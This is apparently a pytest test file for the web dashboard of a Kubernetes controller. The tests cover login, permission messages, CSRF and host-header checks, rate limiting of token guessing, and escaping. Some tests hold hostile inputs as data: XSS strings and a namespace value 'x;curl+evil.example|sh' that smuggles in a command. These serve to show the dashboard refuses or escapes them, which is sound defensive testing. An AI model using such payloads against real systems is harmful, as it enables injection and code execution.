"""Logins, what users see, and what every answer has (S31, S34)."""

from __future__ import annotations

import asyncio
import html
import re

import pytest
from msgspec.structs import replace

from harbourmaster.api.metadata import OwnerReference
from harbourmaster.api.resources import APPLICATIONS
from harbourmaster.dashboard.guard import HEADERS
from harbourmaster.dashboard.registry import PAGES
from harbourmaster.dashboard.sources import MOST, MOST_OF_SET
from harbourmaster.dashboard.tokens import AT_ONCE, LIFETIME, LONGEST_TOKEN, WRONG_TOKENS
from harbourmaster.dashboard.tokens import PAGE_RATE as ALLOWED
from harbourmaster.kube.errors import ForbiddenError, ServerError
from harbourmaster.lifecycle.model import StageStatus
from harbourmaster.placement.model import CheckedGeneration, Condition
from helpers.patience import PATIENCE

ROLE = "--clusterrole=harbourmaster-dashboard-viewer"
VERSIONS = "versions.lifecycle.keptn.sh"
PATHS = [page.path for page in PAGES]
STRANGE = (
    "<script>alert(1)</script>",
    "\"onmouseover='x'",
    "a\u202egpj.exe",
    "bell\x07esc\x1b[2J",
    "{{ 7 * 7 }}{% raw %}",
    "</title><img src=x onerror=alert(1)>",
)


@pytest.mark.parametrize("path", [*PATHS, "/applications/shop/cart", "/stream?view=gates"])
async def test_without_a_token_nothing_is_shown(place, path):
    place.filled.fill(10)
    async with place.ask(path, token=None) as answer:
        assert answer.status == 303
        assert answer.headers["Location"].startswith("/login?next=/")
    async with place.ask(path, token=None, headers={"Accept": "*/*"}) as answer:
        assert answer.status == 401
        assert answer.headers["WWW-Authenticate"].startswith("Bearer")
        assert "cart" not in await answer.text()


async def test_headers_that_name_a_user_have_no_effect(place):
    place.filled.fill(10)
    names = ("Impersonate-User", "Impersonate-Group", "X-Remote-User", "X-Forwarded-User")
    headers = {"Accept": "*/*", **dict.fromkeys(names, "captain")}
    for token, status in (("stowaway", 403), (None, 401)):
        text = await place.page("/gates", token, status, headers=headers)
        assert "cart" not in text


@pytest.mark.parametrize("path", PATHS)
async def test_a_token_that_nobody_has_is_refused(place, path):
    assert "rejected this token" in await place.page(path, "pirate", status=401)


@pytest.mark.parametrize("path", [*PATHS, "/stream?view=gates", "/applications/shop/cart-0"])
async def test_who_may_list_nothing_is_told_what_is_missing(place, path):
    place.filled.fill(10)
    text = await place.page(path, "stowaway", status=403)
    assert "harbourmaster-dashboard-viewer" in text
    assert "cart" not in text.replace("/shop/cart-0", "")


@pytest.mark.parametrize(
    ("path", "user", "missing", "command"),
    [
        (
            "/applications?namespace=shop",
            "stowaway",
            f"list keptnapp{VERSIONS} in the namespace shop.",
            f"rolebinding --namespace=shop dashboard-stowaway {ROLE} --user=stowaway",
        ),
        (
            "/gates",
            "system:serviceaccount:sea:jim",
            f"list pods and keptnworkload{VERSIONS} and keptnapp{VERSIONS} in any namespace.",
            f"rolebinding --namespace=NAMESPACE dashboard-sea:jim {ROLE} --serviceaccount=sea:jim",
        ),
        (
            "/reservations",
            "a b/c",
            "list nodes in the whole cluster.",
            f"clusterrolebinding 'dashboard-a b-c' {ROLE} '--user=a b/c'",
        ),
    ],
)
async def test_a_refusal_names_the_permission_and_the_command_that_grants_it(
    place, path, user, missing, command
):
    place.filled.fill(5)
    place.access.namespaces[user] = frozenset()
    place.access.names["token"] = user
    async with place.ask(path, "token", headers={"Accept": "*/*"}) as answer:
        assert answer.status == 403
        text = await answer.text()
    command = f"kubectl create {command}"
    assert text == f"403: Missing permission: {missing} Ask an administrator to run: {command}\n"
    page = html.unescape(await place.page(path, "token", status=403))
    assert f"<code>{command}</code>" in page


async def test_a_namespace_that_can_not_exist_gets_no_command(place):
    text = await place.page("/gates?namespace=x;curl+evil.example|sh", "stowaway", status=403)
    assert "kubectl" not in text
    assert "not a valid namespace" in text
    place.access.kinds["sailor"] = {"nodes"}
    place.access.namespaces["sailor"] = frozenset(("*",))
    text = await place.page("/?namespace=x;curl+evil.example|sh", "sailor")
    assert "for lack of permission" in text
    assert "kubectl" not in text


async def test_kinds_of_both_scopes_get_a_command_for_each(place):
    place.filled.fill(5)
    binding = f"dashboard-stowaway {ROLE} --user=stowaway"
    commands = (
        f"<code>kubectl create rolebinding --namespace=shop {binding}\n"
        f"kubectl create clusterrolebinding {binding}</code>"
    )
    text = await place.page("/policies?namespace=shop", "stowaway", status=403)
    assert commands in text
    group = "podschedulingpolicies.kupid.gardener.cloud in the"
    assert f"list {group} namespace shop; or list cluster{group} whole cluster." in text
    assert "run one of these, the second for the whole cluster:" in text
    place.access.namespaces["stowaway"] = frozenset(("*",))
    place.access.kinds["stowaway"] = {"podschedulingpolicies"}
    text = await place.page("/policies?namespace=shop", "stowaway")
    assert commands in text
    lacking = "in the namespace shop: pods; in the whole cluster: clusterpodschedulingpolicies."
    assert f"for lack of permission to list it {lacking}" in text


async def test_a_version_has_a_bar_with_its_stage(place):
    place.filled.fill(1)
    key = "shop/cart-0-web-1.4.2"
    version = place.filled.sources["workload_versions"].store.get(key)
    stage = StageStatus(
        number=2,
        of=3,
        state="Held",
        message="analysis <rate> failed",
        wanted=12,
        allowed=3,
        released=2,
    )
    status = replace(version.status, deployment_status="Progressing", stage=stage)
    spec = replace(version.spec, stages="1, 25%", stage_analyses=("rate",))
    place.filled.put("workload_versions", replace(version, spec=spec, status=status))
    text = await place.page("/applications/shop/cart-0")
    # The app failed, too; what is held comes first.
    assert "analysis &lt;rate&gt; failed" in text[: text.index('id="facts"')]
    lanes = text[text.index('id="lanes"') : text.index('id="releases"')]
    row = lanes[lanes.index("Stage 2 of 3") :]
    row = row[: row.index("Post-deployment")]
    assert "Held" in row
    assert '<rect class="stage idle" x="0" y="0" width="79"' in row
    assert '<rect class="stage bad" x="83" y="0" width="163"' in row
    assert '<rect class="stage idle" x="250" y="0" width="746"' in row
    assert "1 of 1 pod<" in row
    assert "0 of 9 pods<" in row
    assert "2 of 12 pods released, 3 allowed; analysis &lt;rate&gt; failed" in row
    assert "<bdi>rate</bdi>" in row
    over = StageStatus(state="Skipped")
    status = replace(status, stage=over, deployment_status="Succeeded")
    place.filled.put("workload_versions", replace(version, spec=spec, status=status))
    text = await place.page("/applications/shop/cart-0")
    assert "Stages" in text
    assert "pods released" not in text


async def test_a_page_names_what_it_leaves_out_for_lack_of_permissions(place):
    place.filled.fill(5)
    place.access.kinds["sailor"] = {"keptnappversions", "keptnworkloadversions"}
    text = await place.page("/applications/shop/cart-0", "sailor")
    assert (
        "for lack of permission to list it in the namespace shop: "
        "keptnworkloads.lifecycle.keptn.sh, keptntasks.lifecycle.keptn.sh" in text
    )
    assert "rolebinding --namespace=shop dashboard-sailor" in text
    assert "for lack of permission" not in await place.page("/applications/shop/cart-0")


async def test_a_pod_is_shown_to_who_may_list_pods_there(place):
    for namespace in ("shop", "payments"):
        place.filled.namespace(namespace)
        place.filled.pod(namespace, {"app": "cart"}, "cart-1", nodeSelector={"<b>": "ssd"})
        place.filled.policy(namespace, "keep-cart", 0, podSelector={}, nodeSelector={"<b>": "ssd"})
    text = html.unescape(await place.page("/policies/pods/shop/cart-1", "sailor"))
    assert 'nodeSelector["<b>"]' in text
    assert "PodSchedulingPolicy shop/keep-cart" in text
    assert 'href="/policies/pods/shop/cart-1"' in await place.page("/policies/pods", "sailor")
    for path in ("/payments/cart-1", "/payments/none", "?namespace=payments"):
        text = await place.page(f"/policies/pods{path}", "sailor", status=403)
        assert "list pods in the namespace payments" in text
    await place.page("/policies/pods/shop/none", "sailor", status=404)
    # Policies that may not be seen are not named.
    place.access.kinds["sailor"] = {"pods"}
    text = await place.page("/policies/pods/shop/cart-1", "sailor")
    assert "keep-cart" not in text


async def test_a_pod_that_can_not_be_explained_gets_a_page_that_says_why(place):
    place.filled.pod("shop", {}, "cart-1", affinity={"nodeAffinity": "x" * 1024 * 1024})
    text = await place.page("/policies/pods/shop/cart-1", status=422)
    assert "The pod cannot be explained: spec.affinity: more than 1024 KiB." in text


async def test_the_page_says_where_conflicts_are_not_searched(place):
    place.filled.namespace("shop")
    place.filled.pod("shop", {})
    for number in range(MOST_OF_SET + 1):
        name = f"p{number}"
        place.filled.policy("shop", name, podSelector={}, schedulerName=name)
    text = await place.page("/policies")
    assert f"combinations of more than {MOST_OF_SET} policies are not searched" in text
    assert f"nor more than {MOST} combinations" in text
    assert "in conflict" not in text


async def test_what_the_controller_may_not_do_is_named(place):
    place.filled.fill(5)
    pods = place.filled.sources["gated_pods"]
    pods.error = 'list /api/v1/pods: 500: cached "403 Forbidden"'
    assert "no permission" not in await place.page("/gates")
    pods.error, pods.is_forbidden = "list /api/v1/pods: 403 Forbidden: pods is ...", True
    text = await place.page("/gates")
    assert "The controller has no permission to list and watch pods" in text
    assert "harbourmaster doctor" in text
    for review in ("authentication.k8s.io/v1/tokenreviews", "authorization.k8s.io/v1/subject..."):
        place.access.fault = ForbiddenError("no", status=403, call=f"create /apis/{review}")
        text = await place.page("/gates", status=503)
        assert f"The controller has no permission to create /apis/{review}" in text
        assert "<code>harbourmaster doctor</code>" in text


@pytest.mark.parametrize("path", PATHS)
async def test_without_objects_a_page_is_empty(place, path):
    assert "<main" in await place.page(path)


async def test_other_namespaces_can_not_be_seen(place):
    place.filled.fill(20)
    hidden = {"payments", "mail", "billing", "search/", ">search<"}
    for path in ("/", "/applications", "/gates", "/policies", "/clusters", "/clusters?view=placed"):
        whole = await place.page(path)
        assert "payments" in whole, path
        text = await place.page(path, "sailor")
        assert not {text_of_others for text_of_others in hidden if text_of_others in text}, path
        assert "shop" in text
    await place.page("/reservations", "sailor", status=403)
    await place.page("/applications?namespace=payments", "sailor", status=403)
    await place.page("/applications/payments/checkout-1", "sailor", status=403)
    await place.page("/applications/nowhere/checkout-1", "sailor", status=403)


async def test_numbers_count_what_may_be_seen_and_nothing_else(place):
    place.filled.fill(50)
    assert "50 applications" in await place.page("/applications")
    assert "10 applications" in await place.page("/applications", "sailor")
    text = await place.page("/policies", "sailor")
    assert "in the namespaces in which you can list them: 10 in all" in text


async def test_a_kind_alone_shows_its_page_alone(place):
    place.filled.fill(10)
    place.access.kinds["sailor"] = {"podschedulingpolicies"}
    text = await place.page("/policies", "sailor")
    assert "Pods are not counted" in text
    await place.page("/gates", "sailor", status=403)
    overview = await place.page("/", "sailor")
    assert "You are not allowed to list them" in overview
    # Whoever may see pods alone can't be told why they wait.
    place.access.kinds["sailor"] = {"pods"}
    await place.page("/gates", "sailor", status=403)


async def test_what_may_not_be_listed_is_left_out_of_reports(place):
    place.filled.fill(10)
    assert "412.5" in await place.page("/gates?namespace=payments")
    place.access.namespaces["sailor"] = frozenset(("payments",))
    place.access.kinds["sailor"] = {"pods", "keptnworkloadversions", "keptnappversions"}
    text = await place.page("/gates", "sailor")
    assert "checkout-1" in text
    assert "412.5" not in text
    place.access.kinds["sailor"] = {"keptnappversions"}
    text = await place.page("/applications/payments/checkout-1", "sailor")
    assert "You are not allowed to list the versions of its workloads here" in text
    assert "migrate" not in text


@pytest.mark.parametrize("name", STRANGE)
@pytest.mark.claim("D6")
async def test_strange_names_stay_text(place, name):
    filled = place.filled
    filled.app("shop", name)
    filled.gated("shop", name)
    filled.policy("shop", name, spec=None)
    filled.member("shop", 5, name=name)
    filled.placed("shop", name, 4)
    filled.reserved(1, pod=f"shop/{name}")
    filled.metric("shop", name, errMsg=name, lastUpdated=filled.ago(600))
    texts = [await place.page(path) for path in (*PATHS, "/clusters?view=placed")]
    texts.append(await place.page(f"/gates?q={name}&namespace={name}&state={name}"))
    texts.append(await place.page(f"/{name}", status=404))
    for text in texts:
        assert "<script>alert" not in text
        assert "<img src=x" not in text
        assert not re.search(r"""<[^>]*\sonmouseover=""", text)
        assert not set(text) & set("\x07\x1b\u202e")
    shown = name.replace("\x07", "\\x07").replace("\x1b", "\\x1b").replace("\u202e", "\\u202e")
    assert sum(shown in html.unescape(text) for text in texts) >= 5


@pytest.mark.parametrize(
    "path", [*PATHS, "/login", "/nothing", "/static/none.css", "/stream?view=x", "/%00", "/%2e%2e"]
)
async def test_every_answer_is_hardened(place, path):
    for token in ("captain", "pirate", None):
        async with place.ask(path, token) as answer:
            for header, value in HEADERS.items():
                assert answer.headers[header] == value
            assert answer.headers["Cache-Control"] == "no-store"
            assert "Server" not in answer.headers


@pytest.mark.claim("D6")
async def test_the_policy_of_pages_allows_nothing_of_others():
    policy = dict(word.split(" ", 1) for word in HEADERS["Content-Security-Policy"].split("; "))
    assert policy["default-src"] == "'none'"
    assert set(policy.values()) == {"'none'", "'self'"}


async def test_a_placed_application_links_to_the_page_of_its_checks(place):
    filled = place.filled
    filled.placed("shop", "cart")
    filled.app("shop", "cart", number=4)
    check = "application-cart-2-5f2c9d01ab"
    application = filled.sources["applications"].store.get("shop/cart")
    failed = Condition(type="Checked", status="False", reason="CheckFailed", message="errors: 7")
    proposed = CheckedGeneration(generation=2, name="oslo", check=check)
    status = replace(application.status, proposed=proposed, conditions=(failed,))
    filled.put("applications", replace(application, status=status))
    filled.app("shop", "application/cart", number=2)
    (version,) = (
        version
        for version in filled.sources["app_versions"].store.values()
        if version.spec.app_name == "application/cart"
    )
    owner = OwnerReference(
        api_version=APPLICATIONS.api_version, kind="Application", name="cart", controller=True
    )
    metadata = replace(version.metadata, name=check, owner_references=(owner,))
    filled.remove("app_versions", version.metadata.key)
    filled.put("app_versions", replace(version, metadata=metadata))
    text = await place.page("/clusters?view=placed")
    assert "proposed: <bdi>generation 2 on oslo</bdi>" in text
    assert "Checked: errors: 7" in text
    ((link, reason),) = re.findall(r'checks: <a href="([^"]+)"><bdi>(\w+)</bdi>', text)
    assert (link, reason) == (
        f"/applications/shop/application%2Fcart?version={check}",
        "CheckFailed",
    )
    page = await place.page(link)
    assert "<bdi>application/cart</bdi>" in page
    assert f"<bdi>{check}</bdi>" in page
    assert "No pod of this version" not in page
    assert link.partition("?")[0] in await place.page("/applications")
    assert link.partition("?")[0] in await place.page("/")
    assert "application/cart" not in await place.page("/applications/shop/cart")


async def test_pages_have_neither_styles_nor_scripts_within(place):
    place.filled.fill(10)
    for path in (*PATHS, "/clusters?view=placed", "/applications/shop/cart-0", "/login"):
        text = await place.page(path)
        assert not re.search(r"\sstyle=|<style|\son[a-z]+=|javascript:", text), path
        assert re.findall(r"<script[^>]*>", text) == re.findall(r"<script src=[^>]* defer>", text)


@pytest.mark.claim("D5")
async def test_nothing_can_be_changed(place):
    place.filled.fill(5)
    for method in ("POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE"):
        for path in PATHS:
            async with place.ask(path, method=method) as answer:
                assert answer.status == 405
                assert answer.headers["Allow"] == "GET,HEAD"
    async with place.ask("/gates", method="HEAD") as answer:
        assert answer.status == 200


@pytest.mark.claim("D7")
@pytest.mark.parametrize(
    "host",
    ["attacker.example.com", "localhost:80@example.com", "[::1].example.com", "localhost:x", "::1"],
)
async def test_a_plain_port_answers_to_the_names_of_this_machine_only(place, host):
    async with place.ask("/login", headers={"Host": host}) as answer:
        assert answer.status == 421


@pytest.mark.parametrize("host", ["LOCALHOST", "localhost:8088", "127.0.0.1:1", "[::1]:8088"])
async def test_every_name_of_this_machine_is_answered(place, host):
    async with place.ask("/login", headers={"Host": host}) as answer:
        assert answer.status == 200


async def log_in(place, token, **headers):
    port = place.site.port
    given = {"Origin": f"http://127.0.0.1:{port}", **headers}
    return place.ask("/login", None, "POST", data={"token": token, "next": "/gates"}, headers=given)


async def test_a_browser_logs_in_and_out(place):
    async with await log_in(place, "  Bearer captain\n") as answer:
        assert (answer.status, answer.headers["Location"]) == (303, "/gates")
        (cookie,) = answer.headers.getall("Set-Cookie")
    assert {"HttpOnly", "SameSite=Strict", "Path=/", f"Max-Age={LIFETIME}"} <= set(
        cookie.split("; ")
    )
    assert "captain" not in cookie
    value = cookie.partition(";")[0]
    place.session.cookie_jar.clear()
    assert "captain" in await place.page("/", None, headers={"Cookie": value})
    forged = value[:-3] + "AAA"
    place.session.cookie_jar.clear()
    await place.page("/", None, status=303, headers={"Cookie": forged})
    origin = {"Origin": f"http://127.0.0.1:{place.site.port}", "Cookie": value}
    async with place.ask("/logout", None, "POST", headers=origin) as answer:
        assert answer.headers["Location"] == "/login"
        assert "Max-Age=0" in answer.headers["Set-Cookie"]


async def test_a_session_ends_with_its_token(place):
    async with await log_in(place, "sailor") as answer:
        value = answer.headers["Set-Cookie"].partition(";")[0]
    place.session.cookie_jar.clear()
    del place.access.namespaces["sailor"]
    assert "<main" not in await place.page("/", None, status=303, headers={"Cookie": value})


@pytest.mark.parametrize(
    ("token", "status", "says"),
    [
        ("", 400, "Give a token"),
        ("two words", 400, "invalid characters"),
        ("tökän", 400, "invalid characters"),
        ("x" * (LONGEST_TOKEN + 1), 400, "as many as a browser keeps"),
        ("pirate", 401, "rejected this token"),
        ("x" * 20_000, 413, "too long"),
    ],
)
async def test_a_token_that_is_none_is_told_so(place, token, status, says):
    async with await log_in(place, token) as answer:
        text = await answer.text()
        assert (answer.status, says in text) == (status, True)
        assert "Set-Cookie" not in answer.headers


@pytest.mark.claim("D2")
async def test_a_form_of_another_site_is_refused(place):
    for headers in ({"Origin": "https://example.com"}, {"Sec-Fetch-Site": "cross-site"}):
        async with await log_in(place, "captain", **headers) as answer:
            assert answer.status == 403
            assert "Set-Cookie" not in answer.headers


async def guess_tokens(place, count, headers=None):
    """So many wrong tokens at once, each another one; their statuses."""

    async def one(number):
        async with place.ask("/", f"pirate-{number}", headers=headers or {}) as answer:
            return answer.status

    return await asyncio.gather(*map(one, range(count)))


@pytest.mark.claim("D8")
async def test_a_good_token_gets_in_while_others_guess(place):
    is_over = False

    async def guess(number):
        count = 0
        while not is_over:
            async with place.ask("/", f"pirate-{number}-{count}") as answer:
                assert answer.status == 401
            count += 1
        return count

    guessing = [asyncio.create_task(guess(number)) for number in range(40)]
    async with asyncio.timeout(PATIENCE):
        while len(place.access.tokens) < WRONG_TOKENS.single.burst:  # noqa: ASYNC110 - there is no event
            await asyncio.sleep(0.01)
    async with await log_in(place, "captain") as answer:
        assert answer.status == 303
    await place.page("/reservations", "sailor", status=403)
    is_over = True
    assert sum(await asyncio.gather(*guessing)) >= WRONG_TOKENS.single.burst


@pytest.mark.claim("D8")
async def test_a_wrong_token_again_is_no_question(place):
    for _ in range(WRONG_TOKENS.single.burst + 1):
        await place.page("/", "pirate", status=401)
    assert place.access.tokens == ["pirate"]


@pytest.mark.claim("D8")
async def test_sessions_go_on_while_somebody_guesses(place):
    async with await log_in(place, "captain") as answer:
        value = answer.headers["Set-Cookie"].partition(";")[0]
    place.session.cookie_jar.clear()
    for _ in range(WRONG_TOKENS.single.burst + 1):
        async with place.ask("/", "pirate"):
            pass
    assert "<main" in await place.page("/", None, headers={"Cookie": value})


async def test_an_api_server_that_does_not_answer_is_told_and_nothing_is_shown(place):
    place.filled.fill(5)
    place.access.fault = ServerError("etcd is away: secret details")
    async with place.ask("/") as answer:
        text = await answer.text()
        assert answer.status == 503
        assert "Retry-After" in answer.headers
        assert "secret" not in text


async def test_the_next_page_after_login_is_one_of_ours(place):
    for path in ("/login?next=//example.com", "/login?next=https://example.com/"):
        assert 'name="next" value="/"' in await place.page(path)
    assert 'value="/gates?q=a"' in await place.page("/login?next=/gates%3Fq%3Da")


async def test_assets_never_change_under_their_names(place):
    text = await place.page("/login")
    paths = set(re.findall(r'"(/static/[^"]+)"', text))
    assert {path.rpartition(".")[2] for path in paths} == {"css", "js", "svg"}
    for path in paths:
        async with place.ask(path, None) as answer:
            assert answer.status == 200
            assert "immutable" in answer.headers["Cache-Control"]
            etag = answer.headers["ETag"]
        async with place.ask(path, None, headers={"If-None-Match": etag}) as answer:
            assert answer.status == 304


async def test_a_query_is_kept_in_the_links_of_a_list(place):
    place.filled.fill(300)
    text = await place.page("/applications?q=cart&state=Failed")
    assert 'value="cart"' in text
    text = await place.page("/applications?page=2")
    assert "101\u2013200 of 300" in text
    assert 'rel="next" href="?page=3"' in text
    assert "None of 300" in await place.page("/applications?q=nothing+like+it")


async def test_an_application_that_is_gone_is_a_page_that_says_so(place):
    place.filled.fill(5)
    assert "Nothing is called gone in the namespace shop" in await place.page(
        "/applications/shop/gone", status=404
    )


async def test_an_unknown_path_leads_a_user_to_the_overview_and_not_to_the_login(place):
    text = await place.page("/nosuch", status=404)
    assert "This page does not exist" in text
    assert 'href="/"' in text
    assert 'href="/login"' not in text


async def test_mirrors_that_are_not_well_are_told(place):
    place.filled.fill(5)
    pods = place.filled.sources["gated_pods"]
    pods.error = "GET /api/v1/pods: 503"
    assert "may be out of date" in await place.page("/gates")
    pods.error = None
    pods.synced.clear()
    assert "the data is incomplete" in await place.page("/gates")
    place.filled.sources["app_versions"].absent = True
    assert "not installed" in await place.page("/applications")


async def test_pages_answer_while_others_are_made(place):
    place.filled.fill(100)
    texts = await asyncio.gather(*(place.page(path) for path in PATHS * 3))
    assert len(texts) == 3 * len(PATHS)
    assert all("<main" in text for text in texts)


async def test_nobody_keeps_the_controller_making_pages(place, monkeypatch):
    now = asyncio.get_running_loop().time()
    monkeypatch.setattr(place.filled.dashboard._page_rate, "_clock", lambda: now)
    for _ in range(ALLOWED.single.burst):
        await place.page("/reservations")
    async with place.ask("/reservations") as answer:
        assert answer.status == 429
        assert int(answer.headers["Retry-After"]) > 0
    place.filled.namespace("shop")
    await place.page("/gates", "sailor")


async def test_one_is_one(place):
    place.filled.reserved(1)
    assert "1 reservation<" in re.sub(r"\s*</p>", "</p>", await place.page("/reservations"))
    assert ">reservation<" in await place.page("/")


async def test_a_form_that_comes_too_slowly_is_refused(place, monkeypatch):
    monkeypatch.setattr("harbourmaster.dashboard.app._FORM_PATIENCE", 0.05)

    async def slowly():
        yield b"token="
        await asyncio.sleep(30)

    headers = {
        "Origin": f"http://127.0.0.1:{place.site.port}",
        "Content-Type": "application/x-www-form-urlencoded",
    }
    async with place.ask("/login", None, "POST", data=slowly(), headers=headers) as answer:
        assert answer.status == 408


async def raw(place, text):
    """Return the head of the answer to bytes that no client sends."""
    reader, writer = await asyncio.open_connection("127.0.0.1", place.site.port)
    writer.write(text.replace(b"HOST", f"127.0.0.1:{place.site.port}".encode()))
    async with asyncio.timeout(PATIENCE):
        head = await reader.readuntil(b"\r\n\r\n")
    writer.close()
    await writer.wait_closed()
    return head.decode()


@pytest.mark.parametrize("token", [b"\xff\xfe", "tök".encode(), b"two words", b"a\x00b"])
async def test_a_token_of_strange_bytes_is_none(place, token):
    head = await raw(
        place, b"GET / HTTP/1.1\r\nHost: HOST\r\nAuthorization: Bearer " + token + b"\r\n\r\n"
    )
    # HTTP allows no null byte.
    assert re.match(r"HTTP/1\.[01] 40[01] ", head), head
    assert not place.access.tokens


@pytest.mark.parametrize(
    ("kind", "body", "status"),
    [
        ("application/x-www-form-urlencoded", b"token=\xff\xfe", 400),
        ("application/x-www-form-urlencoded; charset=nonsense", b"token=captain", 400),
        ("multipart/form-data; boundary=x", b"--y", 415),
        ("multipart/form-data", b"", 415),
        ("application/json", b"{}", 415),
    ],
)
async def test_a_form_that_is_none_is_refused(place, kind, body, status):
    headers = {"Origin": f"http://127.0.0.1:{place.site.port}", "Content-Type": kind}
    async with place.ask("/login", None, "POST", data=body or b" ", headers=headers) as answer:
        assert answer.status == status
        assert "Set-Cookie" not in answer.headers


async def test_tokens_can_not_be_guessed_all_at_once(place):
    place.access.pause = asyncio.Event()
    asked = asyncio.create_task(guess_tokens(place, 50))
    async with asyncio.timeout(PATIENCE):
        while len(place.access.tokens) < AT_ONCE:  # noqa: ASYNC110 - there is no event
            await asyncio.sleep(0.01)
    async with await log_in(place, "") as answer:
        assert answer.status == 400
    assert len(place.access.tokens) == AT_ONCE
    place.access.pause.set()
    assert await asked == [401] * 50


async def test_who_has_a_good_token_does_not_wait_for_those_who_guess(place):
    await place.page("/reservations")
    place.access.pause = asyncio.Event()
    asked = asyncio.create_task(guess_tokens(place, AT_ONCE + 1))
    async with asyncio.timeout(PATIENCE):
        while len(place.access.tokens) <= AT_ONCE:  # noqa: ASYNC110 - there is no event
            await asyncio.sleep(0.01)
    seen = asyncio.create_task(place.page("/reservations"))
    async with asyncio.timeout(PATIENCE):
        while place.access.tokens[-1] != "captain":  # noqa: ASYNC110 - there is no event
            await asyncio.sleep(0.01)
    place.access.pause.set()
    assert "<main" in await seen
    await asked
    # One that is good no more is no key to guess by.
    del place.access.namespaces["captain"]
    await place.page("/reservations", status=401)


@pytest.mark.parametrize(
    "query", ["q=%ff%fe", "q=%ed%a0%80", "q=%00", "namespace=%f0%9f", "q=" + "a" * 7000]
)
async def test_no_query_breaks_a_page(place, query):
    place.filled.fill(5)
    for path in (*PATHS, "/login"):
        assert "<main" in await place.page(f"{path}?{query}")


async def test_no_two_rows_are_one_to_the_script(place):
    filled = place.filled
    for space, name in (("a", "b-c"), ("a-b", "c")):
        filled.app(space, name)
        filled.gated(space, "x", name=name)
        filled.policy(space, name)
        filled.member(space, 0, name=name)
        filled.placed(space, name)
        filled.metric(space, name)
    for number, pod in enumerate(("a/b-c", "a-b/c")):
        filled.reserved(number, pod=pod)
    for path in (*PATHS, "/clusters?view=placed"):
        ids = re.findall(r'\sid="([^"]*)"', await place.page(path))
        assert len(ids) == len(set(ids)), path
        assert path in {"/", "/map"} or sum(row.startswith("row-") for row in ids) == 2
